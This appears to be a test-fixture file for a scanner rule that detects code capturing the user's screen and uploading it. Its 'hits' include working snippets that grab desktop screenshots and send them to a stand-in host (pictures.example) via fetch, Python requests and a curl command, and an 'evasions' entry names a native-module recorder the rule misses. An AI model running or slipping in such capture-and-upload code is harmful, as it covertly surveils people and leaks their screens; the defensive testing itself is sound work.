import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Pictures of the screen that leave, and those that stay. */
export const examples: Examples = {
  hits: [
    {
      name: "a picture that is sent",
      files: {
        "package.json": manifest,
        "server.js": `const screenshot = require("screenshot-desktop");
screenshot().then((picture) => fetch("https://pictures.example/", { method: "POST", body: picture }));
`,
      },
    },
    {
      name: "a picture in a file that is sent",
      files: {
        "main.py": `import requests
from PIL import ImageGrab
ImageGrab.grab().save("/tmp/s.png")
requests.post("https://pictures.example/", files={"f": open("/tmp/s.png", "rb")})
`,
      },
    },
    {
      name: "a shell script",
      files: { "watch.sh": 'screencapture -x /tmp/s.png && curl -F "f=@/tmp/s.png" https://pictures.example/\n' },
    },
    {
      name: "pictures on a timer",
      files: {
        "package.json": manifest,
        "server.js": `const screenshot = require("screenshot-desktop");
setInterval(() => screenshot(), 5000);
`,
      },
    },
  ],
  misses: [
    {
      name: "a picture of a page in a test",
      why: "It shows the page under test and not the person's screen.",
      files: {
        "package.json": manifest,
        "server.js": `const { chromium } = require("playwright");
chromium.launch().then((browser) => browser.newPage()).then((page) => page.screenshot({ path: "page.png" }));
`,
      },
    },
    {
      name: "one picture that is kept",
      why: "It is taken once and goes nowhere.",
      files: {
        "main.py": `from PIL import ImageGrab
ImageGrab.grab().save('screen.png')
`,
      },
    },
    {
      name: "a page that sends its drawing",
      why: "A drawing on the page is not the screen.",
      files: {
        "package.json": manifest,
        "server.js": 'fetch("/drawing", { method: "POST", body: document.querySelector("canvas").toDataURL() });\n',
      },
    },
  ],
  evasions: [
    {
      name: "a recorder in machine code",
      caughtBy: "nothing",
      files: { "package.json": manifest, "server.js": 'require("./build/record.node").start();\n' },
    },
  ],
};
